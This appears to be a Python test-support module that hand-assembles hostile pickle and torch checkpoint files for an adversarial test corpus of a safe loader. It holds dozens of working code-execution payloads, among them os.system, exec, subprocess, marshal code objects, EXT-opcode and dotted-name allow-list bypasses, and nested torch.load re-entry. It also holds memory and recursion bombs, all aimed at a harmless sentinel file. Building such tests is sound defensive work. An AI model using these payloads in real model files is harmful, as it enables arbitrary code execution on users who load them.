"""Building hostile files by hand: the one pickle assembler of the adversarial corpus.

Two kinds of file are built here.  Whole hostile programs (`PAYLOADS`: each asks for exactly the
call it is named after and would create a sentinel file if it ran), put into a plain pickle, a
real torch zip archive or a legacy torch file (`CONTAINERS`, `build_hostile`).  And fragments: a
run of pickle opcodes that leaves one object on the stack, spliced into a valid checkpoint.

A fragment is a run of pickle opcodes that leaves exactly one object on the stack.  `spliced`
puts it where a valid checkpoint holds the string MARKER (a weight, or a 'junk' entry), so the
rest of the file is what torch.save / pickle.dump wrote.  Memo slots used by fragments are far
above anything a small real pickle uses.

(Over 500 lines on purpose: it is the corpus's one assembler, the hostile programs and the
fragments beside the opcodes they are spelled in, so that no test module builds files its own way.)
"""
from __future__ import annotations

import functools
import io
import marshal
import os
import pickle
import pickletools
import shlex
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Dict, List, Tuple

import numpy as np

import torch

from conversion.architecture import Architecture
from conversion.synthetic import random_state_dict

MARKER = "MARKER-FOR-A-HOSTILE-FRAGMENT"
TINY = Architecture(depths=(1, 1, 1, 1), dims=(4, 4, 4, 4), num_classes=2, classifier_norm=True)
A_WEIGHT = "downsample_layers.0.0.weight"  # the stem convolution, [4, 3, 4, 4] in TINY
_SLOT = 0x7FFFFF00  # memo index for fragments


def tiny_state_dict() -> Dict[str, torch.Tensor]:
    return random_state_dict(TINY, seed=5)


def put(slot: int = 0) -> bytes:
    return pickle.LONG_BINPUT + struct.pack("<I", _SLOT + slot)


def get(slot: int = 0) -> bytes:
    return pickle.LONG_BINGET + struct.pack("<I", _SLOT + slot)


def text(s: str) -> bytes:
    data = s.encode("utf-8")
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def integer(i: int) -> bytes:
    data = i.to_bytes((i.bit_length() + 8) // 8, "little", signed=True)
    return pickle.LONG1 + bytes([len(data)]) + data


def global_(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


# ---------------------------------------------------------------- fragments


def nested_lists(depth: int) -> bytes:
    """[[[...]]] `depth` deep, built bottom-up with constant pickle stack use per level."""
    return pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)


def nested_lists_top_down(depth: int) -> bytes:
    """The same nesting built top-down through the memo (each new list appended to the previous one)."""
    out = pickle.EMPTY_LIST + put(1)
    for _ in range(depth - 1):
        out += get(1) + pickle.EMPTY_LIST + put(1) + pickle.APPEND + pickle.POP
    return out


def self_containing_list() -> bytes:
    return pickle.EMPTY_LIST + put() + get() + pickle.APPEND


def self_containing_dict() -> bytes:
    return pickle.EMPTY_DICT + put() + text("self") + get() + pickle.SETITEM


def mutual_cycle() -> bytes:
    """a = []; b = [a]; a.append(b)."""
    return (pickle.EMPTY_LIST + put(0) + pickle.EMPTY_LIST + put(1) + get(0) + pickle.APPEND + pickle.POP
            + get(1) + pickle.APPEND)


def deep_tuple_key(depth: int) -> bytes:
    """{((((),),),): None} with the key `depth` tuples deep (hashing it recurses in C)."""
    return pickle.EMPTY_DICT + pickle.EMPTY_TUPLE + pickle.TUPLE1 * depth + pickle.NONE + pickle.SETITEM


def deep_frozenset(depth: int) -> bytes:
    out = pickle.EMPTY_TUPLE
    for _ in range(depth):
        out = pickle.MARK + out + pickle.FROZENSET
    return out


def array_without_buffer(shape=(4, 3, 4, 4), dtype: str = "<f4") -> bytes:
    """numpy.ndarray(shape, dtype): numpy hands out uninitialised memory of that size."""
    return call(global_("numpy", "ndarray"), pickle.MARK + b"".join(integer(d) for d in shape) + pickle.TUPLE, text(dtype))


def reconstruct_without_state(core: str = "numpy.core") -> bytes:
    """numpy's _reconstruct(ndarray, (4,3,4,4), b'b') with no BUILD: an array of uninitialised memory."""
    shape = pickle.MARK + b"".join(integer(d) for d in (4, 3, 4, 4)) + pickle.TUPLE
    return call(global_(f"{core}.multiarray", "_reconstruct"), global_("numpy", "ndarray"), shape,
                pickle.SHORT_BINBYTES + b"\x01b")


def bytearray_of(n: int) -> bytes:
    return call(global_("__builtin__", "bytearray"), integer(n))


def codec_chain(steps: int, seed: int = 1000) -> bytes:
    """_codecs.encode(... _codecs.encode(b'\\0' * seed, 'hex') ..., 'hex'): doubles at every step."""
    out = global_("_codecs", "encode") * steps + pickle.SHORT_BINBYTES + bytes([min(seed, 255)]) + b"\0" * min(seed, 255)
    return out + (text("hex") + pickle.TUPLE2 + pickle.REDUCE) * steps


# ---------------------------------------------------------------- containers


def _replace_marker(data: bytes, fragment: bytes) -> bytes:
    literal = text(MARKER)
    assert data.count(literal) == 1, "the template must name the marker exactly once"
    return data.replace(literal, fragment)


def template(where: str) -> Dict[str, Any]:
    """A valid checkpoint with MARKER as one weight ('weight') or as a 'junk' entry ('junk')."""
    sd: Dict[str, Any] = dict(tiny_state_dict())
    if where == "weight":
        sd[A_WEIGHT] = MARKER
        return {"model": sd}
    return {"model": sd, "junk": MARKER}


def torch_zip(obj: Any, compress_pickle: bool = False, pad: int = 0) -> bytes:
    """torch.save(obj) as bytes, optionally with data.pkl deflated and padded after its STOP opcode."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    if not compress_pickle and not pad:
        return buf.getvalue()
    return rezip(buf.getvalue(), lambda name, data: data + b"\0" * pad if name.endswith("/data.pkl") else data,
                 deflate=("data.pkl",) if compress_pickle else ())


def rezip(data: bytes, change, deflate=()) -> bytes:
    """The archive with each member's bytes passed through `change(name, bytes)` (CRCs recomputed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            kind = zipfile.ZIP_DEFLATED if info.filename.endswith(tuple(deflate)) else zipfile.ZIP_STORED
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0)), change(info.filename, src.read(info)), kind)
    return out.getvalue()


def spliced(fragment: bytes, container: str, where: str = "junk") -> bytes:
    """A checkpoint file whose MARKER is replaced by `fragment`: 'pkl' (numpy arrays, protocol 2),
    'torch-zip' (data.pkl), 'torch-legacy' (the main pickle)."""
    obj = template(where)
    if container == "pkl":
        plain = {"model": {k: (v.numpy() if isinstance(v, torch.Tensor) else v) for k, v in obj["model"].items()}}
        plain.update({k: v for k, v in obj.items() if k != "model"})
        return _replace_marker(pickle.dumps(plain, protocol=2), fragment)
    if container == "torch-legacy":
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=False)
        return _replace_marker(buf.getvalue(), fragment)
    return rezip(torch_zip(obj), lambda name, data: _replace_marker(data, fragment) if name.endswith("/data.pkl") else data)


def tensor_archive(size, stride, offset: int, numel: int, record_bytes: int) -> bytes:
    """A minimal torch archive {'w': tensor} whose one tensor has the given geometry over a float
    storage declared `numel` long, stored in a record of `record_bytes` bytes."""
    storage = pickle.MARK + text("storage") + global_("torch", "FloatStorage") + text("0") + text("cpu") + integer(numel) + pickle.TUPLE
    tensor = call(
        global_("torch._utils", "_rebuild_tensor_v2"),
        storage + pickle.BINPERSID,
        integer(offset),
        pickle.MARK + b"".join(integer(d) for d in size) + pickle.TUPLE,
        pickle.MARK + b"".join(integer(d) for d in stride) + pickle.TUPLE,
        pickle.NEWFALSE,
        call(global_("collections", "OrderedDict")),
    )
    program = pickle.PROTO + b"\x02" + pickle.EMPTY_DICT + text("w") + tensor + pickle.SETITEM + pickle.STOP
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in (("archive/data.pkl", program), ("archive/byteorder", b"little"), ("archive/version", b"3"),
                           ("archive/data/0", b"\0" * record_bytes)):
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


# The copyreg extension registry: code -> (module, name) it stands for (EXT1 takes 1 byte, EXT2 2, EXT4 4).
# One key per code: copyreg refuses to register a (module, name) twice.
EXT_CODES = {"EXT1": (0xF1, "os", "system"), "EXT2": (0xF1F2, "posix", "system"), "EXT4": (0x7FFFFFF0, "subprocess", "getoutput")}


# ================================================================ side effects a payload may ask for


class TouchOnNew:
    """`__new__` creates the file it is given: reached through NEWOBJ / NEWOBJ_EX."""

    def __new__(cls, path: str = "", **kwargs: str) -> "TouchOnNew":
        open(path or kwargs["path"], "w").close()
        return super().__new__(cls)


class TouchOnInit:
    """`__init__` creates the file it is given: reached through copyreg._reconstructor."""

    def __init__(self, path: str) -> None:
        open(path, "w").close()


class TouchOnSetstate:
    """`__setstate__` creates the file named in its state: reached through BUILD."""

    def __setstate__(self, state: Dict[str, str]) -> None:
        open(state["path"], "w").close()


class RunsCode:
    """What an ordinary malicious pickle carries (used to build inner archives)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


# ================================================================ assembling pickles by hand




def bytes_(b: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(b)) + b


def small_int(i: int) -> bytes:
    return pickle.BININT1 + bytes([i]) if 0 <= i < 256 else pickle.BININT + struct.pack("<i", i)




def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def tuple_(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def list_(*items: bytes) -> bytes:
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS


def dict_(**items: bytes) -> bytes:
    return pickle.EMPTY_DICT + pickle.MARK + b"".join(text(k) + v for k, v in items.items()) + pickle.SETITEMS




def program(obj: bytes, proto: int) -> bytes:
    """A whole pickle: `{"model": obj}`, the shape of a checkpoint."""
    return pickle.PROTO + bytes([proto]) + pickle.EMPTY_DICT + text("model") + obj + pickle.SETITEM + pickle.STOP


def globals_named(program: bytes) -> List[str]:
    """Sanity check of a hand-made program: it parses, and these are the globals it names."""
    names, strings = [], []
    for op, arg, _ in pickletools.genops(program):
        if op.name in ("BINUNICODE", "SHORT_BINUNICODE", "UNICODE"):
            strings.append(arg)
        elif op.name == "GLOBAL" or op.name == "INST":
            names.append(arg.replace(" ", "."))
        elif op.name == "STACK_GLOBAL":
            names.append(f"{strings[-2]}.{strings[-1]}")
    return names


# ================================================================ payloads


@dataclass(frozen=True)
class Ctx:
    """Where a payload's side effect would land."""

    sentinel: str  # absolute path of the file the payload would create
    aux: Path  # a folder for side files a payload needs (an inner .npy)

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(self.sentinel)}"

    @property
    def code(self) -> str:
        return f"open({self.sentinel!r}, 'w').close()"


@dataclass(frozen=True)
class Payload:
    build: Callable[[Ctx], bytes]  # opcodes that push one object
    proto: int = 2
    runs_unsafely: bool = True  # False: cannot run code on this platform even when loaded unsafely


def torch_bytes(obj: Any, legacy: bool = False) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


def _os_system(c: Ctx) -> bytes:
    return call(global_("os", "system"), text(c.cmd))


def _import(module: str) -> bytes:
    return call(global_("builtins", "__import__"), text(module))


def _torch_load_unsafe(c: Ctx) -> bytes:
    """functools.partial(torch.load, weights_only=False)(io.BytesIO(inner)): kwargs smuggled in by BUILD."""
    partial = call(global_("functools", "partial"), global_("torch", "load"))
    state = tuple_(global_("torch", "load"), pickle.EMPTY_TUPLE, dict_(weights_only=pickle.NEWFALSE), pickle.NONE)
    inner = call(global_("io", "BytesIO"), bytes_(torch_bytes({"x": RunsCode(c.cmd)})))
    return call(partial + state + pickle.BUILD, inner)


def _numpy_load_allow_pickle(c: Ctx) -> bytes:
    npy = c.aux / "inner.npy"
    np.save(npy, np.array([RunsCode(c.cmd)], dtype=object), allow_pickle=True)
    return call(global_("numpy", "load"), text(str(npy)), pickle.NONE, pickle.NEWTRUE)


def _ext(kind: str) -> Callable[[Ctx], bytes]:
    code = EXT_CODES[kind][0]
    op = getattr(pickle, kind) + struct.pack({"EXT1": "<B", "EXT2": "<H", "EXT4": "<i"}[kind], code)
    return lambda c: call(op, text(c.cmd))


HERE = __name__  # the module the side-effect classes live in, as find_class will be asked for it

PAYLOADS: Dict[str, Payload] = {
    # plain calls through REDUCE
    "os.system": Payload(_os_system),
    "posix.system": Payload(lambda c: call(global_("posix", "system"), text(c.cmd))),
    "nt.system": Payload(lambda c: call(global_("nt", "system"), text(c.cmd)), runs_unsafely=os.name == "nt"),
    "os.system-stack-global": Payload(lambda c: call(stack_global("os", "system"), text(c.cmd)), proto=4),
    "builtins.exec": Payload(lambda c: call(global_("builtins", "exec"), text(c.code))),
    "builtins.eval": Payload(lambda c: call(global_("builtins", "eval"), text(f"__import__('os').system({c.cmd!r})"))),
    "__builtin__.eval-py2-name": Payload(lambda c: call(global_("__builtin__", "eval"), text(f"__import__('os').system({c.cmd!r})"))),
    "builtins.open": Payload(lambda c: call(global_("builtins", "open"), text(c.sentinel), text("w"))),
    "codecs.open": Payload(lambda c: call(global_("codecs", "open"), text(c.sentinel), text("w"))),
    "logging.FileHandler": Payload(lambda c: call(global_("logging", "FileHandler"), text(c.sentinel))),
    "subprocess.Popen": Payload(lambda c: call(global_("subprocess", "Popen"), list_(text("touch"), text(c.sentinel)))),
    "subprocess.check_call": Payload(lambda c: call(global_("subprocess", "check_call"), list_(text("touch"), text(c.sentinel)))),
    "torch.save": Payload(lambda c: call(global_("torch", "save"), small_int(1), text(c.sentinel))),
    "numpy.savetxt": Payload(lambda c: call(global_("numpy", "savetxt"), text(c.sentinel), list_(small_int(1)))),
    "numpy-testing-runstring": Payload(
        lambda c: call(global_("numpy.testing._private.utils", "runstring"), text(c.code), pickle.EMPTY_DICT)),
    "numpy.load-allow_pickle": Payload(_numpy_load_allow_pickle),
    # the other opcodes that call or construct
    "INST": Payload(lambda c: pickle.MARK + text(c.cmd) + pickle.INST + b"os\nsystem\n"),
    "OBJ": Payload(lambda c: pickle.MARK + global_("os", "system") + text(c.cmd) + pickle.OBJ),
    "NEWOBJ": Payload(lambda c: global_(HERE, "TouchOnNew") + tuple_(text(c.sentinel)) + pickle.NEWOBJ),
    "NEWOBJ_EX": Payload(
        lambda c: global_(HERE, "TouchOnNew") + pickle.EMPTY_TUPLE + dict_(path=text(c.sentinel)) + pickle.NEWOBJ_EX,
        proto=4),
    "BUILD-__setstate__": Payload(
        lambda c: global_(HERE, "TouchOnSetstate") + pickle.EMPTY_TUPLE + pickle.NEWOBJ + dict_(path=text(c.sentinel)) + pickle.BUILD),
    "BUILD-allowed-object-hostile-state": Payload(
        lambda c: global_("argparse", "Namespace") + pickle.EMPTY_TUPLE + pickle.NEWOBJ + dict_(x=_os_system(c)) + pickle.BUILD),
    "copyreg._reconstructor": Payload(
        lambda c: call(global_("copyreg", "_reconstructor"), global_(HERE, "TouchOnInit"), global_(HERE, "TouchOnInit"), text(c.sentinel))),
    "EXT1": Payload(_ext("EXT1")),
    "EXT2": Payload(_ext("EXT2")),
    "EXT4": Payload(_ext("EXT4")),
    # persistent ids: meaningless in a plain pickle, and torch accepts only ('storage', ...) tuples (refusal only)
    "PERSID-text": Payload(lambda c: pickle.PERSID + b"0\n", runs_unsafely=False),
    "BINPERSID-benign-tuple": Payload(lambda c: tuple_(text("module"), text("os"), text("system")) + pickle.BINPERSID,
                                      runs_unsafely=False),
    "BINPERSID-with-call-inside": Payload(
        lambda c: tuple_(text("storage"), _os_system(c), text("0"), text("cpu"), small_int(1)) + pickle.BINPERSID),
    # indirection: reach a dangerous callable through a harmless-looking one
    "functools.partial": Payload(lambda c: call(call(global_("functools", "partial"), global_("os", "system"), text(c.cmd)))),
    "operator.attrgetter": Payload(
        lambda c: call(call(call(global_("operator", "attrgetter"), text("system")), _import("os")), text(c.cmd))),
    "builtins.getattr": Payload(lambda c: call(call(global_("builtins", "getattr"), _import("os"), text("system")), text(c.cmd))),
    "importlib.import_module": Payload(
        lambda c: call(call(global_("builtins", "getattr"), call(global_("importlib", "import_module"), text("os")), text("system")), text(c.cmd))),
    # protocol 4 resolves dotted names: an allow-list that checks only the module is bypassed
    "dotted-name-argparse._os.system": Payload(lambda c: call(stack_global("argparse", "_os.system"), text(c.cmd)), proto=4),
    # an allowed class as the first step of a dotted name reaches a module's globals (no call: refusal only)
    "dotted-name-through-allowed-class": Payload(
        lambda c: stack_global("collections", "OrderedDict.__init__.__globals__"), proto=4, runs_unsafely=False),
    "dotted-name-torch._utils.torch.save": Payload(
        lambda c: call(stack_global("torch._utils", "torch.save"), small_int(1), text(c.sentinel)), proto=4),
    "pickle.loads-inner": Payload(lambda c: call(global_("pickle", "loads"), bytes_(pickle.dumps(RunsCode(c.cmd))))),
    "marshal-code-object": Payload(lambda c: call(call(
        global_("types", "FunctionType"),
        call(global_("marshal", "loads"), bytes_(marshal.dumps(compile(c.code, "<payload>", "exec")))),
        pickle.EMPTY_DICT))),
    # torch re-entrancy: the allowed name torch.storage._load_from_bytes is torch.load(weights_only=False) in torch
    "_load_from_bytes-inner-zip": Payload(
        lambda c: call(global_("torch.storage", "_load_from_bytes"), bytes_(torch_bytes({"x": RunsCode(c.cmd)})))),
    "_load_from_bytes-inner-legacy": Payload(
        lambda c: call(global_("torch.storage", "_load_from_bytes"), bytes_(torch_bytes({"x": RunsCode(c.cmd)}, legacy=True)))),
    "_load_from_bytes-inner-plain-pickle": Payload(
        lambda c: call(global_("torch.storage", "_load_from_bytes"), bytes_(pickle.dumps({"x": RunsCode(c.cmd)}, protocol=2)))),
    "torch.load-weights_only=False-via-partial": Payload(_torch_load_unsafe),
    "_rebuild_tensor_v2-hostile-backward-hooks": Payload(lambda c: call(
        global_("torch._utils", "_rebuild_tensor_v2"), pickle.NONE, small_int(0), tuple_(small_int(1)), tuple_(small_int(1)), pickle.NEWFALSE,
        call(global_("collections", "OrderedDict"), list_(tuple_(small_int(0), _os_system(c)))))),
}


# ================================================================ containers


@functools.lru_cache(maxsize=None)
def _torch_zip_template() -> Tuple[Tuple[str, bytes], ...]:
    """The members of a real torch.save archive of a small dict, in order."""
    data = torch_bytes({"model": {"w": torch.arange(4.0)}})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return tuple((info.filename, z.read(info)) for info in z.infolist())


def in_torch_zip(program: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A real torch archive whose `archive/data.pkl` is `program`; every other member kept."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, content in _torch_zip_template():
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), program if name.endswith("/data.pkl") else content)
    return out.getvalue()


def _split_pickles(data: bytes, count: int) -> Tuple[List[bytes], bytes]:
    """The first `count` pickles of a stream of concatenated pickles, and the rest."""
    f, parts = io.BytesIO(data), []
    for _ in range(count):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        parts.append(data[start:f.tell()])
    return parts, data[f.tell():]


@functools.lru_cache(maxsize=None)
def _legacy_template() -> Tuple[bytes, ...]:
    """(magic, protocol, sys_info, main, storage keys, storage data) of a real legacy torch file."""
    parts, rest = _split_pickles(torch_bytes({"model": {"w": torch.arange(4.0)}}, legacy=True), 5)
    return (*parts, rest)


def in_legacy_torch(program: bytes, slot: int = 3) -> bytes:
    """A legacy (non-zip) torch file with `program` in pickle `slot` (1 protocol, 2 sys_info, 3 main, 4 keys)."""
    parts = list(_legacy_template())
    parts[slot] = program
    if slot == 3:  # the template's storage would be orphaned: declare none
        parts[4:] = [pickle.dumps([], protocol=2), b""]
    return b"".join(parts)


CONTAINERS: Dict[str, Tuple[str, Callable[[bytes], bytes]]] = {
    # name: (file name, wrap)
    "pickle": ("evil.pkl", lambda p: p),
    "torch-zip": ("evil.pth", in_torch_zip),
    "torch-legacy": ("evil.pth", in_legacy_torch),
}
# A few more places a program can hide, tried with the plainest payload.
EXTRA_CONTAINERS: Dict[str, Tuple[str, Callable[[bytes], bytes]]] = {
    "torch-zip-deflated-member": ("evil.pth", lambda p: in_torch_zip(p, zipfile.ZIP_DEFLATED)),
    "torch-legacy-in-protocol-slot": ("evil.pth", lambda p: in_legacy_torch(p, slot=1)),
    "torch-legacy-in-sys_info-slot": ("evil.pth", lambda p: in_legacy_torch(p, slot=2)),
    "torch-legacy-in-storage-keys-slot": ("evil.pth", lambda p: in_legacy_torch(p, slot=4)),
    "pickle-named-.safetensors": ("evil.safetensors", lambda p: p),
}
EXTRA_PAYLOADS = ("os.system", "builtins.exec", "_load_from_bytes-inner-zip")


@dataclass(frozen=True)
class HostileCase:
    payload: str
    container: str

    @property
    def id(self) -> str:
        return f"{self.payload}@{self.container}"

    def spec(self) -> Tuple[str, Callable[[bytes], bytes]]:
        return CONTAINERS.get(self.container) or EXTRA_CONTAINERS[self.container]


HOSTILE_CASES = [HostileCase(p, c) for p in PAYLOADS for c in CONTAINERS] + [
    HostileCase(p, c) for c in EXTRA_CONTAINERS for p in EXTRA_PAYLOADS
]


@dataclass
class HostileFile:
    path: Path
    sentinel: Path
    case: HostileCase


def build_hostile(case: HostileCase, folder: Path, sentinels: Path) -> HostileFile:
    """Write the case's file into `folder`; its payload would create a file in `sentinels`."""
    payload = PAYLOADS[case.payload]
    sentinel = sentinels / case.id.replace("/", "_")
    aux = folder / "aux"
    aux.mkdir(exist_ok=True)
    whole = program(payload.build(Ctx(str(sentinel), aux)), payload.proto)
    name, wrap = case.spec()
    path = folder / name
    path.write_bytes(wrap(whole))
    return HostileFile(path, sentinel, case)
